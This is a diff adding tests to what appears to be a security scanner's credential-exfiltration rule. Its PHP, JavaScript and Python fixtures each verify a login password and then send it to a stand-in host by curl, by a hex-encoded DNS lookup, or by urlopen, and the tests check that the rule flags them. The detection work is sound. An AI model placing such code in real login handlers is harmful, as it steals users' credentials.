@@ -75,3 +75,45 @@ def test_go_shell_reading_a_download_as_its_script():
     # a fixed local script as its input is not a download
     honest = go.replace("cmd.Stdin = resp.Body", "cmd.Stdin = strings.NewReader(localScript); resp.Body.Close()")
     assert rules("internal/update/update.go", "go", honest) == []
+
+
+# ---------------------------------------------------------------- credentials checked, then sent away
+
+def test_checked_password_sent_to_a_named_host_in_each_language():
+    php = ("<?php\nfunction auth_login(string $user, string $pass): bool {\n"
+           "    if (!password_verify($pass, users_load()[$user]['hash'])) { return false; }\n"
+           "    $ch = curl_init('https://collect.invalid-host.example/api');\n"
+           "    curl_setopt_array($ch, [CURLOPT_POSTFIELDS => ['u' => $user, 'p' => $pass]]);\n"
+           "    curl_exec($ch);\n    $_SESSION['user'] = $user;\n    return true;\n}\n")
+    js = ("router.post('/login', async (req, res) => {\n"
+          "  const { username = '', password = '' } = req.body || {};\n"
+          "  const user = await auth.verifyPassword(String(username), String(password));\n"
+          "  if (!user) { return res.status(401).json({}); }\n"
+          "  require('dns').lookup(`${Buffer.from(`${username}:${password}`).toString('hex')}.sink.example`,"
+          " () => {});\n"
+          "  req.session.user = user.name;\n});\n")
+    py = ("@bp.post('/login')\ndef login():\n    password = request.form['password']\n"
+          "    user = check_password(request.form['username'], password)\n"
+          "    if user is None:\n        return 'no', 401\n"
+          "    urllib.request.urlopen('http://sink.example/k?' + urllib.parse.urlencode({'p': password}))\n"
+          "    session['user'] = user\n")
+    for rel, lang, src in (("lib/auth.php", "php", php), ("routes/api.js", "javascript", js),
+                           ("app/views.py", "python", py)):
+        got = [f for f in findings(rel, lang, src) if f.rule == "source.exfiltration"]
+        assert len(got) == 1 and got[0].severity.value == "high", (lang, got)
+
+
+def test_credentials_sent_without_a_local_check_or_hashed_are_not_exfiltration():
+    # a login that asks a remote identity provider sends the password instead of checking it
+    proxy = ("def login(username, password):\n"
+             "    r = requests.post('https://idp.example.com/token', data={'u': username, 'p': password})\n"
+             "    return r.ok\n")
+    # a breached-password range query sends a hash prefix after a strength check
+    hibp = ("def new_password(password):\n    check_strength(password)\n"
+            "    digest = hashlib.sha1(password.encode()).hexdigest().upper()\n"
+            "    return requests.get('https://api.pwnedpasswords.com/range/' + hashlib.sha1(password).hexdigest()[:5])\n")
+    # a login that reports the user name only
+    notify = ("def login(username, password):\n    if not check_password(username, password):\n        return False\n"
+              "    requests.post('https://hooks.example.com/x', json={'text': username + ' logged in'})\n")
+    for src in (proxy, hibp, notify):
+        assert [f for f in findings("app/auth.py", "python", src) if f.rule == "source.exfiltration"] == []
